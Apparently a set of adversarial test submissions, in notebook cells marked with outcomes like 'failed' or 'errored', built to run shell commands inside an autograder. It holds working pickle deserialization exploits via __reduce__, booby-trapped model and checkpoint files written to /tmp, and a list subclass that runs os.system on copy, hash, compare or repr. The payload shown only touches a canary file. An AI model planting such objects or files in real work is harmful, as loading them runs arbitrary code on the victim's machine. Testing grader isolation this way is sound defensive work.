# %% [prelude]
import os, pickle
class Bomb:
    def __reduce__(self): return (os.system, ("touch /tmp/canary-pickle",))
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    def __getstate__(self): raise SystemExit(0)

# %% [1.1 failed] answers with objects that run code when they are unpickled
vocab = word2id = id2word = Bomb()
def encode(text): return Bomb()
decode = encode

# %% [1.1 failed|errored] leaves pickles and model files wherever somebody may open them
import torch
vocab, word2id, id2word = pickle.dumps(Bomb()), {}, {}
for name in ("state.pkl", "model.pt", "pytorch_model.bin", "checkpoint.pkl", "answers.dill", "session.joblib"):
    with open(f"/tmp/{name}", "wb") as file:
        file.write(vocab)
def encode(text): return vocab
decode = encode

# %% [2.1 failed|errored|crashed] is a module whose state is a bomb
import torch.nn as nn
class Linear(nn.Module):
    def __init__(self, n, m): super().__init__(); self.bomb = Bomb()
    def state_dict(self, *args, **kwargs): return {"weight": Bomb()}
    def parameters(self): return [Bomb()]

# %% [1.1 failed|errored|crashed] runs code whenever it is copied, compared, shown, hashed or made an array
class Everywhere(list):
    def _bomb(self, *args): return os.system("touch /tmp/canary-pickle") and []
    __copy__ = __deepcopy__ = __repr__ = __hash__ = __eq__ = __array__ = __iter__ = __len__ = __index__ = _bomb
vocab = word2id = id2word = Everywhere()
def encode(text): return Everywhere()
decode = encode
